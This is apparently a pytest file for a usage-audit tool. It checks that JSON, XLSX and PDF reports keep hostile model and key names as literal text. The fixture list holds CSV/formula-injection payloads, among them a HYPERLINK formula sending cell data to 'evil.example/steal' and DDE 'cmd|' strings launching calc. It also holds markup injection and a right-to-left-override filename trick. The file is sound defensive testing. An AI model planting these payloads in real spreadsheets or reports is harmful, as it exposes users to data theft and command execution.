"""Text from inputs is data in every output: never a formula, never markup, never a path.

Model names, project and key names of an OpenRouter export are set to spreadsheet formulas (`=HYPERLINK`,
`@SUM`, `+cmd|`), reportlab markup (`<font>`), right-to-left text and emoji. They must come back literally:
in the JSON, as text cells (data type 's', never a formula) in every sheet of the XLSX, and in the PDF's
text. Written through the public renderers (`write_xlsx`, `write_pdf`), whichever way they lay out tables.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader

from tests.conftest import AS_OF, SAMPLES

OPENROUTER = SAMPLES / "openrouter_logs_csv" / "openrouter_logs_2026-10.csv"

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '<font color="red" size="40">injected</font><br/>',
    "עברית \u202etxt.exe مرحبا",
    "🤖 model 🔥 (emoji)",
]
# A tab or a carriage return first also starts a formula in some spreadsheets: neutralised, not kept as is.
CONTROL_FIRST = ["\t=1+1 tab", "\r=2+2 cr"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One audit of an export whose models, apps (projects) and keys carry the hostile names; all outputs."""
    from auditor.cli import main

    tmp = tmp_path_factory.mktemp("hostile-out")
    lines = OPENROUTER.read_text(encoding="utf-8").splitlines()
    names = lines[0].split(",")
    rows = []
    for i, line in enumerate(lines[1:]):
        fields = line.split(",")
        text = (HOSTILE + CONTROL_FIRST)[i % (len(HOSTILE) + len(CONTROL_FIRST))]
        quoted = '"' + text.replace('"', '""') + '"'
        for column in ("model_permaslug", "app_name", "api_key_name"):
            fields[names.index(column)] = quoted
        rows.append(",".join(fields))
    source = tmp / "=HYPERLINK(x) <font> export.csv"
    source.write_text("\n".join([lines[0], *rows]) + "\n", encoding="utf-8")
    out = {"json": tmp / "audit.json", "xlsx": tmp / "audit.xlsx", "pdf": tmp / "audit.pdf"}
    flags = ["--json", str(out["json"]), "--xlsx", str(out["xlsx"]), "--pdf", str(out["pdf"])]
    status = main([str(source), "--as-of", AS_OF.isoformat(), "--to", "openai:gpt-5-mini", "--quiet", *flags])
    assert status == 0
    return {**out, "source": source}


def test_json_keeps_hostile_names_exactly(hostile_run: dict[str, Path]) -> None:
    data = json.loads(hostile_run["json"].read_text(encoding="utf-8"))
    models = {u["model_raw"] for u in data["usage"]}
    assert set(HOSTILE) <= models
    assert data["inputs"][0]["path"] == str(hostile_run["source"])


def _cells(path: Path) -> list[tuple[str, object, str]]:
    book = openpyxl.load_workbook(path)  # not data_only: a formula would be read as one
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_xlsx_holds_hostile_names_as_text_never_formulas(hostile_run: dict[str, Path]) -> None:
    cells = _cells(hostile_run["xlsx"])
    texts = [(sheet, value) for sheet, value, kind in cells if isinstance(value, str)]
    for name in HOSTILE:
        holding = [(s, v, k) for s, v, k in cells if isinstance(v, str) and name in v]
        assert holding, f"{name!r} is in no cell"
        # Stored as text: the value itself, or with the quote a spreadsheet shows it behind.
        assert all(k == "s" for _, _, k in holding), holding
        assert any(v in (name, "'" + name) for _, v, _ in holding), holding
    # The workbook's only formulas are its own (the live costs): none holds input text. A text cell that begins like
    # a formula is quote-prefixed, so a spreadsheet shows it and editing it keeps it text.
    assert not any(k == "f" for _, v, k in cells if isinstance(v, str) and any(h[1:] in v for h in HOSTILE))
    book = openpyxl.load_workbook(hostile_run["xlsx"])
    unquoted = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
        and not cell.quotePrefix
    ]  # fmt: skip
    assert unquoted == []
    assert any(v.startswith(FORMULA_STARTS) for _, v in texts)  # the hostile names did reach the workbook as text


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


# The bidirectional formatting controls (Unicode bidi classes LRM, RLM, ALM, LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI,
# PDI): shown, never obeyed.
BIDI_CONTROLS = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _shown(name: str) -> str:
    """A name as the PDF can show it: each bidi control, and each character neither bundled font (DejaVu Sans, and
    Droid Sans Fallback for Chinese, Japanese and Korean) has a glyph for, as its code point, `[U+1F916]`."""
    from reportlab.pdfbase.ttfonts import TTFont

    from auditor.report.pdf_fonts import FONT_DIR

    glyphs = set()
    for file in ("DejaVuSans.ttf", "DroidSansFallback.ttf"):
        glyphs |= set(TTFont(file, str(FONT_DIR / file)).face.charToGlyph)
    return "".join(ch if ord(ch) in glyphs and ch not in BIDI_CONTROLS else f"[U+{ord(ch):04X}]" for ch in name)


def test_pdf_shows_hostile_names_as_text(hostile_run: dict[str, Path]) -> None:
    with hostile_run["pdf"].open("rb") as handle:  # closed here, not when collected
        text = _squeezed("".join(page.extract_text() or "" for page in PdfReader(handle).pages))
    # Arabic is drawn in its joined (presentation) forms; compatibility normalisation gives back its letters.
    text = unicodedata.normalize("NFKC", text)
    assert "\x00" not in text  # no character was drawn as the font's empty box
    for name in HOSTILE:
        shown = _squeezed(_shown(name))
        if name.isascii():  # markup would have been obeyed (a 40-point red word), not shown: its tags are text
            assert shown == _squeezed(name) and shown in text, name
        else:  # right-to-left runs may be extracted in visual order: each run, either way round
            runs = re.split(r"(\[U\+[0-9A-F]+\])|\s+", _shown(name))
            for run in filter(None, runs):
                assert run in text or run[::-1] in text, (run, name)
    assert "[U+1F916]" in text and "[U+1F525]" in text  # emoji, which the font cannot draw, as code points
    # The bidi override is shown, not obeyed: its text reads "txt.exe" (obeyed, it would read "exe.txt").
    assert "[U+202E]txt.exe" in text and "\u202e" not in text and "exe.txt" not in text


def test_output_paths_come_from_flags_only(hostile_run: dict[str, Path]) -> None:
    """An input named like a formula and markup writes nothing beside itself: the outputs are where named."""
    folder = hostile_run["source"].parent
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [hostile_run["source"].name, "audit.json", "audit.xlsx", "audit.pdf"]
    )


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (a device that is always full)")
@pytest.mark.parametrize("words", [(), ("--json", "-", "--quiet")], ids=["summary", "json"])
def test_a_full_standard_output_is_a_one_line_error_and_nothing_is_written(
    tmp_path: Path, words: tuple[str, ...]
) -> None:
    """The summary or the JSON sent to a full device: one line saying so (exit 2), not an internal error; the reports
    written with it are not left half done (none is written: they are written all or nothing)."""
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "auditor", str(OPENROUTER), "--as-of", AS_OF.isoformat(), "--out", "out", *words],
            cwd=tmp_path, stdout=full, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines() == [
        "error: cannot write the standard output: No space left on device",
        "hint: free some space where it goes, or send it elsewhere",
    ]
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []
